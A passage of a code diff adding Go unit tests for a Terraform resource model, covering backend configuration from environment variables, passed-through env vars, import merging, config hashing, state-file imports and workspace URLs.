+			Expect(model.ParseBackendConfigFromEnv("TF_BACKEND_")).To(Succeed())
+
+			Expect(model.BackendConfig).To(Equal(map[string]interface{}{
+				"access_key": "env-access-key",
+				"bucket":     "static-bucket",
+			}))
+			Expect(sourceConfig).To(Equal(map[string]interface{}{"bucket": "static-bucket"}))
+		})
+
+		It("does nothing without a prefix", func() {
+			model := models.Terraform{}
+			Expect(model.ParseBackendConfigFromEnv("")).To(Succeed())
+			Expect(model.BackendConfig).To(BeNil())
+		})
+
+		It("returns an error for a variable named only the prefix", func() {
+			os.Setenv("TF_BACKEND_", "no-key")
+
+			model := models.Terraform{}
+			Expect(model.ParseBackendConfigFromEnv("TF_BACKEND_")).To(MatchError(ContainSubstring("Environment variable 'TF_BACKEND_' matches `backend_config_env_prefix`")))
+		})
+	})
+
+	Describe("ParsePassEnv", func() {
+		BeforeEach(func() {
+			os.Setenv("PASS_ENV_REQUIRED", "required-value")
+			os.Setenv("PASS_ENV_OPTIONAL", "optional-value")
+			os.Unsetenv("PASS_ENV_MISSING")
+		})
+
+		AfterEach(func() {
+			os.Unsetenv("PASS_ENV_REQUIRED")
+			os.Unsetenv("PASS_ENV_OPTIONAL")
+		})
+
+		It("copies required and optional variables into Env", func() {
+			model := models.Terraform{
+				PassEnvToTerraform: []string{"PASS_ENV_REQUIRED", "PASS_ENV_OPTIONAL?", "PASS_ENV_MISSING?"},
+			}
+			Expect(model.ParsePassEnv()).To(Succeed())
+
+			Expect(model.Env).To(Equal(map[string]string{
+				"PASS_ENV_REQUIRED": "required-value",
+				"PASS_ENV_OPTIONAL": "optional-value",
+			}))
+		})
+
+		It("does not override values set in Env", func() {
+			model := models.Terraform{
+				Env: map[string]string{
+					"PASS_ENV_REQUIRED": "explicit-value",
+				},
+				PassEnvToTerraform: []string{"PASS_ENV_REQUIRED"},
+			}
+			Expect(model.ParsePassEnv()).To(Succeed())
+
+			Expect(model.Env["PASS_ENV_REQUIRED"]).To(Equal("explicit-value"))
+		})
+
+		It("returns an error when a required variable is missing", func() {
+			model := models.Terraform{
+				PassEnvToTerraform: []string{"PASS_ENV_MISSING"},
+			}
+			err := model.ParsePassEnv()
+			Expect(err).To(HaveOccurred())
+			Expect(err.Error()).To(ContainSubstring("PASS_ENV_MISSING"))
+		})
+
+		It("rejects an empty name in Validate", func() {
+			model := models.Terraform{
+				PassEnvToTerraform: []string{"?"},
+			}
+			Expect(model.Validate()).To(MatchError(ContainSubstring("pass_env_to_terraform")))
+		})
+	})
+
 	Describe("ParseImportsFromFile", func() {
 		It("populates Imports from contents of ImportsFile", func() {
 			importsFilePath := path.Join(tmpDir, "imports")
@@ -195,6 +1083,296 @@ some_hcl_key = "some_hcl_value"
 				"key": "value",
 			}))
 		})
+
+		It("merges multiple ImportFiles with inline Imports taking precedence", func() {
+			baseFilePath := path.Join(tmpDir, "base-imports")
+			baseFileContents := `
+aws_instance.base: i-base
+aws_instance.overridden: i-from-base
+aws_instance.inline: i-from-base
+`
+			err := ioutil.WriteFile(baseFilePath, []byte(baseFileContents), 0700)
+			Expect(err).ToNot(HaveOccurred())
+
+			overrideFilePath := path.Join(tmpDir, "override-imports")
+			overrideFileContents := `
+aws_instance.overridden: i-from-override
+aws_instance.inline: i-from-override
+aws_instance.override: i-override
+`
+			err = ioutil.WriteFile(overrideFilePath, []byte(overrideFileContents), 0700)
+			Expect(err).ToNot(HaveOccurred())
+
+			model := models.Terraform{
+				ImportFiles: []string{baseFilePath, overrideFilePath},
+				Imports: map[string]string{
+					"aws_instance.inline": "i-from-inline",
+				},
+			}
+			err = model.ParseImportsFromFile()
+			Expect(err).ToNot(HaveOccurred())
+
+			Expect(model.Imports).To(Equal(map[string]string{
+				"aws_instance.base":       "i-base",
+				"aws_instance.overridden": "i-from-override",
+				"aws_instance.inline":     "i-from-inline",
+				"aws_instance.override":   "i-override",
+			}))
+		})
+	})
+
+	Describe("ConfigHash", func() {
+		var (
+			model     models.Terraform
+			sourceDir string
+		)
+
+		BeforeEach(func() {
+			sourceDir = path.Join(tmpDir, "source")
+			Expect(os.MkdirAll(path.Join(sourceDir, "modules", "vpc"), 0755)).To(Succeed())
+			Expect(ioutil.WriteFile(path.Join(sourceDir, "main.tf"), []byte(`module "vpc" { source = "./modules/vpc" }`), 0644)).To(Succeed())
+			Expect(ioutil.WriteFile(path.Join(sourceDir, "modules", "vpc", "main.tf"), []byte(`variable "secret" {}`), 0644)).To(Succeed())
+
+			model = models.Terraform{
+				Source: sourceDir,
+				Vars: map[string]interface{}{
+					"secret": "super-secret-value",
+				},
+			}
+		})
+
+		hashWithVars := func(model models.Terraform) string {
+			varsDir, err := ioutil.TempDir(tmpDir, "vars")
+			Expect(err).ToNot(HaveOccurred())
+			Expect(model.ConvertVarFiles(varsDir)).To(Succeed())
+
+			hash, err := model.ConfigHash()
+			Expect(err).ToNot(HaveOccurred())
+			return hash
+		}
+
+		It("returns the same hash for the same config", func() {
+			hash := hashWithVars(model)
+			Expect(hash).To(HaveLen(64))
+			Expect(hash).ToNot(ContainSubstring("super-secret-value"))
+			Expect(hashWithVars(model)).To(Equal(hash))
+		})
+
+		It("changes when a file in the source changes", func() {
+			hash := hashWithVars(model)
+			Expect(ioutil.WriteFile(path.Join(sourceDir, "modules", "vpc", "main.tf"), []byte(`variable "other" {}`), 0644)).To(Succeed())
+
+			Expect(hashWithVars(model)).ToNot(Equal(hash))
+		})
+
+		It("changes when a var changes", func() {
+			hash := hashWithVars(model)
+			model.Vars = map[string]interface{}{
+				"secret": "rotated-secret-value",
+			}
+
+			Expect(hashWithVars(model)).ToNot(Equal(hash))
+		})
+
+		It("changes when a var passed via env changes", func() {
+			model.VarsViaEnv = true
+			hash := hashWithVars(model)
+			model.Vars = map[string]interface{}{
+				"secret": "rotated-secret-value",
+			}
+
+			Expect(hashWithVars(model)).ToNot(Equal(hash))
+		})
+
+		It("ignores files written by terraform init", func() {
+			hash := hashWithVars(model)
+			Expect(os.MkdirAll(path.Join(sourceDir, ".terraform"), 0755)).To(Succeed())
+			Expect(ioutil.WriteFile(path.Join(sourceDir, ".terraform", "terraform.tfstate"), []byte(`{}`), 0644)).To(Succeed())
+			Expect(ioutil.WriteFile(path.Join(sourceDir, "resource_backend_override.tf"), []byte(`terraform {}`), 0644)).To(Succeed())
+
+			Expect(hashWithVars(model)).To(Equal(hash))
+		})
+
+		Context("with override files", func() {
+			var overridesDir string
+
+			BeforeEach(func() {
+				overridesDir = path.Join(tmpDir, "overrides")
+				Expect(os.MkdirAll(overridesDir, 0755)).To(Succeed())
+				Expect(ioutil.WriteFile(path.Join(overridesDir, "main_override.tf"), []byte(`variable "secret" { default = "a" }`), 0644)).To(Succeed())
+				Expect(ioutil.WriteFile(path.Join(overridesDir, "vpc_override.tf"), []byte(`variable "other" {}`), 0644)).To(Succeed())
+
+				model.OverrideFiles = []string{path.Join(overridesDir, "main_override.tf")}
+				model.ModuleOverrideFiles = []map[string]string{
+					{"src": path.Join(overridesDir, "vpc_override.tf"), "dst": "modules/vpc"},
+				}
+			})
+
+			It("changes when only an override file changes", func() {
+				hash := hashWithVars(model)
+				Expect(ioutil.WriteFile(path.Join(overridesDir, "main_override.tf"), []byte(`variable "secret" { default = "b" }`), 0644)).To(Succeed())
+				Expect(hashWithVars(model)).ToNot(Equal(hash))
+
+				hash = hashWithVars(model)
+				Expect(ioutil.WriteFile(path.Join(overridesDir, "vpc_override.tf"), []byte(`variable "another" {}`), 0644)).To(Succeed())
+				Expect(hashWithVars(model)).ToNot(Equal(hash))
+			})
+
+			It("is the same once the override files are copied into the source", func() {
+				hash := hashWithVars(model)
+				Expect(os.Symlink(path.Join(overridesDir, "main_override.tf"), path.Join(sourceDir, "main_override.tf"))).To(Succeed())
+				Expect(os.Symlink(path.Join(overridesDir, "vpc_override.tf"), path.Join(sourceDir, "modules", "vpc", "vpc_override.tf"))).To(Succeed())
+
+				Expect(hashWithVars(model)).To(Equal(hash))
+			})
+		})
+	})
+
+	Describe("ParseImportsFromStateFile", func() {
+		It("adds an import for each managed resource instance", func() {
+			stateFileContents := `{
+  "version": 4,
+  "serial": 3,
+  "resources": [
+    {
+      "mode": "managed",
+      "type": "aws_instance",
+      "name": "web",
+      "instances": [{"attributes": {"id": "i-abcd1234"}}]
+    },
+    {
+      "mode": "data",
+      "type": "aws_ami",
+      "name": "ubuntu",
+      "instances": [{"attributes": {"id": "ami-1234"}}]
+    },
+    {
+      "module": "module.network",
+      "mode": "managed",
+      "type": "aws_subnet",
+      "name": "private",
+      "instances": [
+        {"index_key": 0, "attributes": {"id": "subnet-0"}},
+        {"index_key": 1, "attributes": {"id": "subnet-1"}}
+      ]
+    },
+    {
+      "mode": "managed",
+      "type": "aws_s3_bucket",
+      "name": "logs",
+      "instances": [{"index_key": "us-east-1", "attributes": {"id": "logs-bucket"}}]
+    }
+  ]
+}`
+			stateFilePath := writeToTempFile(tmpDir, stateFileContents, ".tfstate")
+
+			model := models.Terraform{
+				Imports: map[string]string{
+					"aws_vpc.main": "vpc-1234",
+				},
+			}
+			err := model.ParseImportsFromStateFile(stateFilePath)
+			Expect(err).ToNot(HaveOccurred())
+
+			Expect(model.Imports).To(Equal(map[string]string{
+				"aws_vpc.main":                         "vpc-1234",
+				"aws_instance.web":                     "i-abcd1234",
+				"module.network.aws_subnet.private[0]": "subnet-0",
+				"module.network.aws_subnet.private[1]": "subnet-1",
+				`aws_s3_bucket.logs["us-east-1"]`:      "logs-bucket",
+			}))
+		})
+
+		It("returns an error if a resource has no id", func() {
+			stateFileContents := `{
+  "resources": [
+    {
+      "mode": "managed",
+      "type": "null_resource",
+      "name": "noop",
+      "instances": [{"attributes": {}}]
+    }
+  ]
+}`
+			stateFilePath := writeToTempFile(tmpDir, stateFileContents, ".tfstate")
+
+			model := models.Terraform{}
+			err := model.ParseImportsFromStateFile(stateFilePath)
+			Expect(err).To(MatchError(ContainSubstring("null_resource.noop")))
+		})
+	})
+
+	Describe("#WorkspaceURL", func() {
+		It("returns an empty string for non-cloud backends", func() {
+			model := models.Terraform{
+				BackendType: "s3",
+				BackendConfig: map[string]interface{}{
+					"organization": "fake-org",
+				},
+			}
+
+			Expect(model.WorkspaceURL("fake-env")).To(BeEmpty())
+		})
+
+		It("uses the workspace prefix with the default hostname", func() {
+			model := models.Terraform{
+				BackendType: "remote",
+				BackendConfig: map[string]interface{}{
+					"organization": "fake-org",
+					"workspaces": map[string]interface{}{
+						"prefix": "fake-prefix-",
+					},
+				},
+			}
+
+			Expect(model.WorkspaceURL("fake-env")).To(Equal("https://app.terraform.io/app/fake-org/workspaces/fake-prefix-fake-env"))
+		})
+
+		It("uses the workspace name and custom hostname", func() {
+			model := models.Terraform{
+				BackendType: "cloud",
+				BackendConfig: map[string]interface{}{
+					"hostname":     "tfe.example.com",
+					"organization": "fake-org",
+					"workspaces": map[string]interface{}{
+						"name": "fake-workspace",
+					},
+				},
+			}
+
+			Expect(model.WorkspaceURL("fake-env")).To(Equal("https://tfe.example.com/app/fake-org/workspaces/fake-workspace"))
+		})
+
+		It("includes the backend_prefix in the workspace name", func() {
+			model := models.Terraform{
+				BackendType: "cloud",
+				BackendConfig: map[string]interface{}{
+					"organization": "fake-org",
+				},
+				WorkspacePrefix: "team-a-",
+			}
+
+			Expect(model.WorkspaceURL("fake-env")).To(Equal("https://app.terraform.io/app/fake-org/workspaces/team-a-fake-env"))
+		})
+	})
+
+	Describe("#RemoteWorkspacePrefix", func() {
+		It("returns the workspaces prefix of the remote backend", func() {
+			model := models.Terraform{
+				BackendType: "remote",
+				BackendConfig: map[string]interface{}{
+					"workspaces": map[string]interface{}{"prefix": "app-"},
+				},
+			}
+			Expect(model.RemoteWorkspacePrefix()).To(Equal("app-"))
+
+			model.BackendType = "cloud"
+			Expect(model.RemoteWorkspacePrefix()).To(BeEmpty())
+		})
+
+		It("returns an empty string without a prefix", func() {
+			Expect(models.Terraform{BackendType: "remote"}.RemoteWorkspacePrefix()).To(BeEmpty())
+		})
 	})
 
 	Describe("PrivateKey", func() {